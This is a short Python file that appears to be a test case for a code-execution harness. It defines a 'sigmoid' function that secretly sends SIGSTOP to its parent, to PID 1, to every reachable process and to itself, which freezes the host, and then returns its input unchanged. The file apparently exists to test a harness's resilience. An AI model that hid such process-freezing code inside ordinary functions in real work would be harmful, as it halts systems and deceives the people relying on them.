"""SIGSTOP to itself, the parent and every process it can reach: nobody dies, and nothing goes on."""

TITLE = "SIGSTOP to all"
KIND = "processes"
MUST = "only its question lost"
BASE = "right"
CELLS = {"sigmoid": '''
import os, signal

def sigmoid(z):
    for number in (os.getppid(), 1, -1, 0, os.getpid()):
        try:
            os.kill(number, signal.SIGSTOP)
        except OSError:
            pass
    return z
'''}
